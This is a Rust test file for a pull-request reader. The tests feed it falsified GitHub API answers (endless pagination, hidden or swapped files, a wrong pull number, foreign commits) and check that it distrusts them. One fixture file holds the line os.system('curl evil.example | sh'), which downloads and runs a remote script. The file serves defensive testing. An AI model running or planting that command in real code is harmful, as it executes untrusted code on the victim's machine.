//! A forge, or whoever stands in front of it, that does not tell the truth: other bytes than were asked for, two moments in one
//! read, lists without end. Nothing of it may be taken for the change, and nothing may be decided on it.

use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use lazaret::analysis::provenance;
use lazaret::model::cancel::Cancel;
use lazaret::model::change::Change;
use lazaret::model::forge::{Answer, Budget, Call, Forge, ForgeError, GraphAnswer, Query};
use lazaret::sources::github::client::GithubClient;
use lazaret::sources::github::fetch::{Fetcher, Limits};
use lazaret::sources::github::gaps::Fill;
use lazaret::sources::github::queue::Wanted;
use lazaret::sources::github::source::{GithubSource, Setup};
use lazaret::sources::github::target::Scope;
use lazaret::sources::source::{Source as _, SourceError};
use serde_json::{Value, json};

use crate::github_desk::Desk;

/// The real client, whose answers are changed on the way.
struct Liar<L> {
    client: GithubClient,
    lie: L,
    asked: AtomicUsize,
}

impl<L: Fn(&str, &mut Value) + Send + Sync> Forge for Liar<L> {
    fn host(&self) -> String {
        self.client.host()
    }

    fn call(&self, call: &Call, cancel: &Cancel) -> Result<Answer, ForgeError> {
        self.asked.fetch_add(1, Ordering::Relaxed);
        let mut answer = self.client.call(call, cancel)?;
        if let Ok(mut value) = serde_json::from_slice(&answer.body) {
            (self.lie)(&call.route, &mut value);
            answer.body = value.to_string().into_bytes();
        }
        Ok(answer)
    }

    fn query(&self, query: &Query, cancel: &Cancel) -> Result<GraphAnswer, ForgeError> {
        self.asked.fetch_add(1, Ordering::Relaxed);
        let mut answer = self.client.query(query, cancel)?;
        let mut value = serde_json::from_slice(&answer.data).unwrap();
        let name = query.document.lines().find(|line| line.starts_with("query")).unwrap();
        (self.lie)(name, &mut value);
        answer.data = value.to_string().into_bytes();
        Ok(answer)
    }

    fn budget(&self) -> Budget {
        self.client.budget()
    }
}

fn read(desk: &Desk, number: u64, lie: impl Fn(&str, &mut Value) + Send + Sync + 'static, git: bool) -> Result<Change, SourceError> {
    let client = Arc::new(desk.github.client(&desk.token));
    let fill = git.then(|| -> Arc<dyn Fill> { Arc::new(Fetcher::new(client, &desk.home.path().join("objects"), Limits::default())) });
    let forge = Arc::new(Liar { client: desk.github.client(&desk.token), lie, asked: AtomicUsize::new(0) });
    let read =
        GithubSource::new(forge.clone(), fill, Arc::new(provenance::of), Setup::default()).change(&desk.at(number), &Cancel::default());
    assert!(forge.asked.load(Ordering::Relaxed) < 250, "lists without end are not read without end");
    read
}

/// Pages in a circle, and a search that finds ever more than it shows.
#[test]
fn a_list_without_end_is_cut_off_and_told() {
    let desk = Desk::new();
    (0..3).for_each(|n| _ = desk.pull(&format!("Add {n}")));
    let turn = AtomicUsize::new(0);
    let circle = move |asked: &str, value: &mut Value| {
        if asked.starts_with("query Queue(") {
            let end = format!("c{}", turn.fetch_add(1, Ordering::Relaxed) % 2);
            value["search"]["pageInfo"] = json!({ "hasNextPage": true, "endCursor": end });
            value["search"]["issueCount"] = json!(5_000_000_000_000_u64);
        }
    };
    let forge = Arc::new(Liar { client: desk.github.client(&desk.token), lie: circle, asked: AtomicUsize::new(0) });
    let wanted = Wanted { scopes: vec![Scope::Repository("acme/api".to_owned())], ..Wanted::default() };
    let setup = Setup { wanted, ..Setup::default() };
    let listing = GithubSource::new(forge.clone(), None, Arc::new(provenance::of), setup).list(&Cancel::default()).unwrap();
    assert_eq!((listing.pulls.len(), listing.unreadable > 0), (3, true), "{:?}", listing.omissions);
    assert!(forge.asked.load(Ordering::Relaxed) < 400, "{}", forge.asked.load(Ordering::Relaxed));
}

/// A pull with an innocent file and one that steals.
fn two_files(desk: &Desk) -> u64 {
    let repo = desk.github.repo("acme/api");
    let pull = repo.pull("Tidy").by_bot("devin-ai-integration[bot]", 158_243_242).branch("devin/tidy");
    pull.commit("Tidy", &[("src/a.py", "a = 1\n"), ("src/steal.py", "import os\nos.system('curl evil.example | sh')\n")]).open()
}

/// Its author turns the pull to another branch, one that holds the bad file already, while the list of files is read.
#[test]
fn a_list_of_files_against_another_base_is_never_taken_for_the_change() {
    let desk = Desk::new();
    let number = two_files(&desk);
    let hide = |route: &str, value: &mut Value| {
        if let (true, Some(list)) = (route.contains("/files"), value.as_array_mut()) {
            list.retain(|file| file["filename"] != "src/steal.py");
        }
    };
    let seen = read(&desk, number, hide, true).unwrap();
    assert!(seen.patch.files.iter().any(|file| file.path().text() == "src/steal.py" && file.added() == 2), "git knows better");
    assert_eq!(seen.patch.unreadable, 0, "{:?}", seen.patch.omissions);
    let blind = read(&desk, number, hide, false).unwrap();
    assert_eq!((blind.patch.unreadable, blind.patch.added()), (2, 0), "without git nothing of that list is believed");
    let swap = |route: &str, value: &mut Value| {
        for file in value.as_array_mut().filter(|_| route.contains("/files")).into_iter().flatten() {
            if file["filename"] == "src/steal.py" {
                (file["patch"], file["additions"], file["contents_url"]) = (json!("@@ -0,0 +1 @@\n+x"), json!(1), json!(""));
            }
        }
    };
    let seen = read(&desk, number, swap, true).unwrap();
    assert_eq!(seen.patch.added(), 3, "other lines of a file are not believed either");
}

#[test]
fn another_pull_than_was_asked_for_is_no_answer() {
    let desk = Desk::new();
    let (number, other) = (two_files(&desk), desk.pull("Add one"));
    let lie = move |asked: &str, value: &mut Value| {
        if asked.starts_with("query Pull(") {
            value["repository"]["pullRequest"]["number"] = json!(other);
        }
    };
    let Err(SourceError::Unreadable(why)) = read(&desk, number, lie, false) else { panic!("another pull was shown") };
    assert!(why.contains(&format!("answered with #{other}")), "{why}");
}

#[test]
fn commits_without_end_and_of_another_head_are_no_history() {
    let desk = Desk::new();
    let number = two_files(&desk);
    let turn = AtomicUsize::new(0);
    let circle = move |asked: &str, value: &mut Value| {
        if asked.starts_with("query Pull(") || asked.starts_with("query Commits(") {
            let pull = &mut value["repository"]["pullRequest"];
            let end = format!("c{}", turn.fetch_add(1, Ordering::Relaxed) % 2);
            pull["commits"]["totalCount"] = json!(100_000);
            pull["commits"]["pageInfo"] = json!({ "hasNextPage": true, "endCursor": end });
        }
    };
    let seen = read(&desk, number, circle, false).unwrap();
    assert!(seen.patch.unreadable > 0, "{:?}", seen.patch.omissions);
    let other = |asked: &str, value: &mut Value| {
        if asked.starts_with("query Pull(") {
            value["repository"]["pullRequest"]["commits"]["nodes"][0]["commit"]["oid"] = json!("e".repeat(40));
        }
    };
    let seen = read(&desk, number, other, true).unwrap();
    assert_eq!(seen.commits.len(), 1);
    assert_eq!(seen.commits[0].id, seen.pull.revision.head, "git's own, not those of another head");
    assert!(read(&desk, number, other, false).unwrap().patch.unreadable > 0);
}
